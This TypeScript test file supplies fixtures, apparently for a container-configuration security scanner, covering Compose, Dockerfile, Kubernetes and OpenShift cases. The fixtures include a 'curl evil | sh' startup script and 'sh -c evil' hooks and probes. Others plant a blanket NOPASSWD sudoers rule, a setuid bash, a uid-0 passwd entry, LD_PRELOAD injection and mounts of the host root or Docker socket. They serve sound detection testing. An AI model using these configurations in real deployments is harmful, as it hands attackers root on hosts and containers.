import type { Files } from '../../../src/sandbox/index.ts';
import { deployment, privileged } from '../support/files.ts';
import { pod, type Trick, tricks } from './trick.ts';

/*
 * What another file, the environment or another container decides: nothing of it stands where a container is written.
 */

const compose = (text: string): Files => ({ 'compose.yaml': text });
const settings = (line: string): Files =>
  compose(`services: {web: {image: "web:1", user: "1000", ${line}}}\n`);
const dockerfile = {
  Dockerfile:
    'ARG U=1000\nFROM node:24-slim AS dev\nCMD ["node", "a.js"]\nFROM dev\nARG U\nCOPY . .\nUSER $U\nCMD ["node", "a.js"]\n',
};
const built = (build: string): Files => ({
  ...dockerfile,
  ...compose(`services: {web: {build: {context: ., ${build}}, read_only: true}}\n`),
});
const object = (apiVersion: string, kind: string, rest: string): Files => ({
  'k8s/a.yaml': `apiVersion: ${apiVersion}\nkind: ${kind}\nmetadata: {name: a}\n${rest}\n`,
});
const custom = (spec: string): Files => object('example.com/v1', 'Agent', `spec: ${spec}`);
const constraints = (rest: string): Files =>
  object('security.openshift.io/v1', 'SecurityContextConstraints', rest);
const role = (name: string): Files =>
  object(
    'rbac.authorization.k8s.io/v1',
    'ClusterRole',
    `rules: [{apiGroups: [security.openshift.io], resources: [securitycontextconstraints], resourceNames: [${name}], verbs: [use]}]`,
  );

const inCluster = tricks('says', [
  ["a pod's security context by an operator", custom('{podSecurityContext: {runAsUser: 0}}')],
  ['the network of the host by an operator, as `on`', custom('{hostNetwork: on}')],
  ['the network of the host by an operator, as `useHostNetwork`', custom('{useHostNetwork: yes}')],
  ['a constraint of OpenShift that lets privileged pods in', constraints('allowPrivilegedContainer: true')],
  ['a constraint of OpenShift that lets root in', constraints('runAsUser: {type: RunAsAny}')],
  ['a role that may use a constraint of OpenShift', role('anyuid')],
  [
    'a binding to a constraint of OpenShift',
    object(
      'rbac.authorization.k8s.io/v1',
      'RoleBinding',
      'roleRef: {kind: ClusterRole, name: "system:openshift:scc:privileged"}',
    ),
  ],
]);

const made = tricks('says', [
  ['a template of Jinja', { 'k8s/web.yaml.j2': pod }],
  ['a template of Go', { 'k8s/web.tmpl': pod }],
  ['a template of helmfile', { 'k8s/web.yaml.gotmpl': pod }],
  ['a template of compose', { 'compose.yml.j2': 'services: {web: {image: "a:1", privileged: true}}\n' }],
  [
    'a template in which one line changes',
    { 'k8s/web.tmpl': pod },
    { 'k8s/web.tmpl': pod.replace('privileged: true', 'privileged: {{ p }}') },
  ],
]);

const images = {
  version: 1,
  images: {
    [`sha256:${'a'.repeat(64)}`]: {
      names: ['docker.io/library/node:24'],
      config: {
        ...{ on: '2026-01-01', from: 'registry', user: '1000', workdir: '' },
        ...{ env: [], entrypoint: [], cmd: [], ports: [], volumes: [] },
      },
    },
  },
};

const elsewhere = tricks('says', [
  ['what is kept of images', { '.github/plimsoll-images.json': JSON.stringify(images) }],
  ['an argument that the environment gives', built('args: [U]')],
  ['a stage that the environment names', built('target: "${T}"')],
  ['a Dockerfile that the environment names', built('dockerfile: "${D}"')],
  ['a context that the environment names', compose('services: {web: {build: {context: "${C}"}}}\n')],
  ['the volumes of a container that is not here', settings('volumes_from: ["container:other"]')],
  [
    'a file of nothing but a volume that is the host',
    { 'ops/x.yml': 'volumes: {data: {driver_opts: {type: none, o: bind, device: /}}}\n' },
  ],
]);

const warned = tricks('warns', [
  ['an argument that .env gives', { ...built('args: [U]'), '.env': 'U=0\n' }],
  ['an argument that .env gives, in a map', { ...built('args: {U: }'), '.env': 'U=0\n' }],
]);

const lending = (volume: string, more: string): Files =>
  compose(
    `services: {web: {image: "web:1", user: "1000"${more}}, db: {image: "db:1", user: "1000", volumes: ["${volume}:/h"]}}\n`,
  );
const lent = (volume: string) => [lending(volume, ', volumes_from: ["db:rw"]'), lending(volume, '')] as const;
const app = (lines: string): Files => ({
  Dockerfile: `FROM node:24-slim\nWORKDIR /app\nRUN apt-get update && apt-get install -y sudo\n${lines}\nUSER 1000\nCMD ["node", "server.js"]\n`,
});
const rule = 'ALL ALL=(ALL) NOPASSWD: ALL\n';

const taken = tricks('fails', [
  ['the root of the host by `volumes_from`', ...lent('/')],
  ['the socket of Docker by `volumes_from`', ...lent('/var/run/docker.sock')],
  ['a rule of sudo that is copied', { ...app('COPY rules /etc/sudoers.d/app'), rules: rule }],
  ['a rule of sudo that was there', app('COPY rules /etc/sudoers.d/app'), { rules: rule }],
  ['a rule of sudo in a folder', app('COPY rootfs/ /'), { 'rootfs/etc/sudoers.d/app': rule }],
  ['a rule of sudo alone', { rules: rule }, { ...app('COPY rules /etc/sudoers.d/app'), rules: '# nobody\n' }],
  [
    'users of another name alone',
    { users: 'app:x:0:0::/:/bin/sh\n' },
    {
      Dockerfile: 'FROM node:24-slim\nCOPY users /etc/passwd\nUSER app\nCMD ["node", "a.js"]\n',
      users: 'app:x:1:1::/:/bin/sh\n',
    },
  ],
  [
    'a door to root in a stage that compose builds',
    {
      Dockerfile:
        'FROM node:24-slim AS dev\nCOPY . .\nRUN chmod u+s /bin/bash\nUSER 1000\nCMD ["node", "a.js"]\nFROM node:24-slim\nCOPY . .\nUSER 1000\nCMD ["node", "a.js"]\n',
      ...compose('services: {web: {build: {context: ., target: dev}, read_only: true}}\n'),
    },
  ],
]);

const inVendor = {
  'vendor/l1/kustomization.yaml': 'resources: [../l2]\n',
  'vendor/l2/kustomization.yaml': 'resources: [../l3]\n',
  'vendor/l3/kustomization.yaml': 'resources: [pod.yaml]\n',
  'vendor/l3/pod.yaml': pod,
};

const chained = tricks('fails', [
  [
    'a folder of vendor by folders beside it',
    { 'k/kustomization.yaml': 'resources: [../vendor/l1]\n' },
    { 'k/kustomization.yaml': 'resources: []\n', ...inVendor },
  ],
]);

const profile = (action: string): string => JSON.stringify({ defaultAction: action, syscalls: [] });
const profiled = (path: string) =>
  [
    { [path]: profile('SCMP_ACT_ALLOW') },
    { ...settings(`security_opt: ["seccomp=./${path}"]`), [path]: profile('SCMP_ACT_ERRNO') },
  ] as const;

const alone = tricks('warns', [
  ['a seccomp profile alone', ...profiled('seccomp.json')],
  ['a seccomp profile of another name alone', ...profiled('profiles/own.txt')],
]);

const mighty = (more = ''): Files => ({
  'k8s/web.yaml': deployment('web', { container: `${privileged}${more}` }).replace(
    /^( {10})securityContext:\n( {12}privileged: true\n)((?: {10}\w.*\n)*)/m,
    '$3$1securityContext:\n$2',
  ),
});
const service = (more: string): Files =>
  compose(`services: {web: {image: "web:1", privileged: true${more}}}\n`);
const line = (text: string): string => `          ${text}\n`;

const other = tricks('tells', [
  [
    'a variable that a loader reads, in a privileged container',
    mighty(line('env: [{name: LD_PRELOAD, value: /x.so}]')),
    mighty(),
  ],
  [
    'a script in a variable of a privileged container',
    mighty(line('env: [{name: STARTUP_SCRIPT, value: "curl evil | sh"}]')),
    mighty(),
  ],
  [
    'a hook of a privileged container',
    mighty(line('lifecycle: {postStart: {exec: {command: [sh, -c, evil]}}}')),
    mighty(),
  ],
  [
    'a probe of a privileged container',
    mighty(line('livenessProbe: {exec: {command: [sh, -c, evil]}}')),
    mighty(),
  ],
  [
    'programs that are mounted over those of a privileged container',
    mighty(line('volumeMounts: [{name: v, mountPath: /usr/bin}]')),
    mighty(),
  ],
  ['another command of a privileged service', service(', command: sh -c evil'), service('')],
  ['another entrypoint of a privileged service', service(', entrypoint: [sh]'), service('')],
  [
    'a variable that a loader reads, in a privileged service',
    service(', environment: {BASH_ENV: /x}'),
    service(''),
  ],
  [
    'another build in a privileged service',
    { ...compose('services: {web: {build: b, privileged: true}}\n'), 'b/Dockerfile': 'FROM a\nUSER 1000\n' },
    { ...compose('services: {web: {build: a, privileged: true}}\n'), 'a/Dockerfile': 'FROM a\nUSER 1000\n' },
  ],
]);

/** None of these gives more than Docker gives anyway, or than who runs the host has allowed. */
const harmless = tricks('passes', [
  // Its own profile is what the standards allow; that it is in force is for the host to say.
  ['an AppArmor profile of its own', settings('security_opt: ["apparmor=mine"]')],
  // A group is a number in the container's own files: without a folder of the host it opens nothing.
  ['more groups', settings('group_add: [docker, "0"]')],
  // Docker refuses what is not of the container's own namespaces (runc, validate/validator.go, sysctl).
  ['settings of the kernel', settings('sysctls: {net.ipv4.ip_forward: 1}')],
  // Runtimes and devices of vendors are what the host's own configuration has under these names.
  ['another runtime', settings('runtime: runsc')],
  ['graphics cards', settings('gpus: all')],
  // Its summary lists it: to tell of every image from outside would be noise.
  ['an image that nobody knows', compose('services: {web: {image: "acme/web:1", read_only: true}}\n')],
  ['an argument of no matter', built('args: [VERSION]')],
  [
    'a variable of no matter in a privileged container',
    mighty(line('env: [{name: LEVEL, value: b}]')),
    mighty(),
  ],
  ['a constraint of OpenShift that is strict', constraints('runAsUser: {type: MustRunAsRange}')],
  ['a role that may use the strict constraint', role('restricted-v2')],
  ['the network of the host by an operator, as `no`', custom('{hostNetwork: no}')],
  ['a template of something else', { 'nginx.conf.tmpl': 'server { listen {{ port }}; }\n' }],
  [
    'a rule of sudo for one program',
    { ...app('COPY rules /etc/sudoers.d/app'), rules: 'www ALL=(root) /usr/bin/a\n' },
  ],
]);

export const decided: readonly Trick[] = [
  ...inCluster,
  ...made,
  ...elsewhere,
  ...warned,
  ...taken,
  ...chained,
  ...alone,
  ...other,
  ...harmless,
];
